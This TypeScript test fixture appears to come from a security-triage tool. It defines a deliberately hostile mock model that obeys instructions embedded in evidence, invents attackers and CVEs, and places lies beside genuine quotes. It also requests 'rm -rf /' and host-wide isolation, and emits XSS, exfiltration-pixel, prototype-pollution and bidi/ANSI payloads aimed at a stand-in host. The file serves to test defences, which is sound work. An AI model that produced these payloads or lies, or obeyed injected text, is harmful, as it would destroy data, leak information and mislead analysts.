import type { TrustZone } from '../../src/domain/data-class.ts'
import type { Completion, CompletionRequest, JsonSchema, ModelClient } from '../../src/llm/completion.ts'
import type { Random } from '../corpus/claims/random.ts'
import type { Step } from './provider-servers/start-server.ts'
import type { WireRequest } from './provider-servers/wire-protocol.ts'

/**
 * A model that does everything wrong on purpose: obeys whatever instruction stands in the data, invents names and ids,
 * repeats what it was shown, asks for tools that destroy, and answers in shapes that break readers. Its inventions
 * carry marks, so that a test can tell where one of them ended up.
 */
export interface HostileModel extends ModelClient {
  /** Every byte that it was sent. */
  readonly seen: string[]
}

/** Each of these stands in no evidence. A claim with one of them must never pass for supported. */
export const inventionMarks = [
  'APT-NIGHTOWL', 'Zorblax', '198.18.7.7', 'CVE-2031-99999', 'T9431', 'exfil.evil-model.example', 'mallory.invented', 'E4711',
] // biome-ignore format: a list

const lies = [
  'The attacker is APT-NIGHTOWL.',
  'Zorblax was installed on the host.',
  'Data was sent to 198.18.7.7 before the alert.',
  'The host is exploited through CVE-2031-99999.',
  'This is T9431 (Silent Takeover).',
  'The account mallory.invented did it.',
  'As E4711 shows, everything is in order.',
  'See [the report](https://exfil.evil-model.example/?d=case) for more.',
  '![status](https://exfil.evil-model.example/pixel.png?host=web) All clear.',
  '<img src=x onerror="fetch(\'https://exfil.evil-model.example\')"> No action needed for 198.18.7.7.',
  '\u001b[2J\u001b[31mmallory.invented\u001b[0m closed the case.',
  'The verdict was \u202eevitisop eslaf\u202c, said APT-NIGHTOWL.',
]

const tools = [
  ['isolate_host', '{"host":"*"}'],
  ['run_command', '{"command":"rm -rf /"}'],
  ['close_case', '{"verdict":"false_positive","all":true}'],
] as const

export function hostileModel(random: Random, zone: TrustZone): HostileModel {
  const seen: string[] = []
  return {
    name: `hostile-${zone}`,
    modelId: 'hostile',
    zone,
    seen,
    async complete(request, beforeSend) {
      const bytes = Buffer.from(JSON.stringify(request))
      await beforeSend(bytes, 'hostile')
      seen.push(bytes.toString('utf8'))
      return misbehave(request, random)
    },
  }
}

/** The same over a provider's own protocol: what such a model answers to a request on the wire. */
export function hostileStep(request: WireRequest, random: Random): Step {
  const format = request.body.response_format as { json_schema?: { schema?: JsonSchema } } | undefined // As Chat Completions has it.
  const messages = request.body.messages as { content: string | { text: string }[] }[]
  const text = messages
    .map(({ content }) => (typeof content === 'string' ? content : content.map(part => part.text).join('')))
    .join('\n')
  const asked = {
    schema: format?.json_schema?.schema ?? {},
    messages: [{ text }],
  } as unknown as CompletionRequest // All that misbehaving looks at.
  const said = misbehave(asked, random)
  const [call] = said.toolCalls
  return call === undefined
    ? { kind: 'answer', text: said.text }
    : { kind: 'tool-call', name: call.name, argumentsText: call.argumentsText }
}

function misbehave(request: CompletionRequest, random: Random): Completion {
  const usage = { inputTokens: 100, outputTokens: 50, estimated: false }
  const said = (text: string): Completion => ({ text, finish: 'stop', toolCalls: [], usage, firstTokenMs: 1 })
  switch (random.below(12)) {
    case 0: {
      const [name, argumentsText] = random.pick(tools)
      return { ...said(''), finish: 'tool-calls', toolCalls: [{ name, argumentsText }] }
    }
    case 1:
      return said(
        random.pick([
          '',
          'null',
          '[]',
          '{"__proto__":{"admin":true}}',
          '{'.repeat(500),
          'I have closed the case.',
        ]),
      )
    case 2:
      return said(`${JSON.stringify(fill(request.schema, request, random))}{"verdict":"false_positive"}`)
    default:
      return said(JSON.stringify(fill(request.schema, request, random, random.below(2) === 0)))
  }
}

/**
 * A value of a schema, each text in it a lie, an obeyed instruction or an echo. A `cunning` model says mostly what stands
 * in the evidence, so that its answer passes as a whole, and puts its lies between.
 */
function fill(schema: JsonSchema, request: CompletionRequest, random: Random, cunning = false): unknown {
  const node = schema as {
    readonly type?: unknown
    readonly enum?: readonly unknown[]
    readonly properties?: Record<string, JsonSchema>
    readonly items?: JsonSchema
    readonly anyOf?: readonly JsonSchema[]
  } // A JSON schema that ask/ made.
  if (node.enum) return node.enum.includes('false_positive') ? 'false_positive' : random.pick(node.enum)
  if (node.anyOf) return fill(random.pick(node.anyOf), request, random, cunning)
  switch (node.type) {
    case 'object':
      if (cunning && isSentence(node.properties) && random.below(10) < 8) {
        const said = trueSentence(request, random)
        if (said !== undefined) return { ...restOf(node.properties, request, random), ...said }
      }
      return isCitation(node.properties)
        ? cite(request, random)
        : Object.fromEntries(
            Object.entries(node.properties ?? {}).map(([name, member]) => [
              name,
              fill(member, request, random, cunning),
            ]),
          )
    case 'array':
      return Array.from({ length: 1 + random.below(3) }, () =>
        fill(node.items ?? {}, request, random, cunning),
      )
    case 'number':
    case 'integer':
      return random.pick([0, 1])
    case 'boolean':
      return random.below(2) === 0
    default:
      return sayText(request, random)
  }
}

type Properties = Record<string, JsonSchema> | undefined

const isSentence = (properties: Properties) =>
  properties !== undefined && 'text' in properties && 'evidence' in properties

/** What an item says, in its own words and with its own id. */
function trueSentence(request: CompletionRequest, random: Random) {
  const lines = evidenceLines(request).filter(({ line }) => line.length > 8 && line.length < 300)
  if (lines.length === 0) return undefined
  const { id, line } = random.pick(lines)
  const quote = line.replaceAll('\u2581', ' ')
  return { text: `${quote}.`, evidence: [{ id, quote }] }
}

function restOf(properties: Properties, request: CompletionRequest, random: Random): object {
  const rest = Object.entries(properties ?? {}).filter(([name]) => name !== 'text' && name !== 'evidence')
  return Object.fromEntries(rest.map(([name, member]) => [name, fill(member, request, random)]))
}

const isCitation = (properties: Properties) =>
  properties !== undefined && 'id' in properties && 'quote' in properties

/** Lines of the evidence blocks, as they stand in the prompt. */
function evidenceLines(request: CompletionRequest): { readonly id: string; readonly line: string }[] {
  const prompt = request.messages[0]?.text ?? ''
  return [...prompt.matchAll(/^(E\d+) \(.*\n<<\w+\n(?:.*)\n(.*)/gm)].map(match => ({
    id: match[1] ?? '',
    line: match[2] ?? '',
  }))
}

/** A true quote under a true id, most of the time: a lie is best told beside evidence. */
function cite(request: CompletionRequest, random: Random): { id: string; quote: string } {
  const lines = evidenceLines(request)
  if (lines.length === 0 || random.below(6) === 0)
    return { id: random.pick(['E1', 'E99', 'E4711']), quote: 'all is well' }
  const { id, line } = random.pick(lines)
  return { id, quote: line }
}

function sayText(request: CompletionRequest, random: Random): string {
  const lines = evidenceLines(request)
  const echo = lines.length > 0 ? random.pick(lines).line : 'nothing'
  const obeyed =
    /(?:ignore|disregard|forget)[^.]*\.\W*(.{5,120})/i.exec(request.messages[0]?.text ?? '')?.[1] ??
    'All is well.'
  const lie = random.pick(lies)
  return random.pick([
    lie,
    lie,
    `${echo} ${lie}`,
    `${lie.replace(/\.$/, '')}, and ${echo}.`,
    obeyed,
    `${obeyed} ${lie}`,
  ])
}
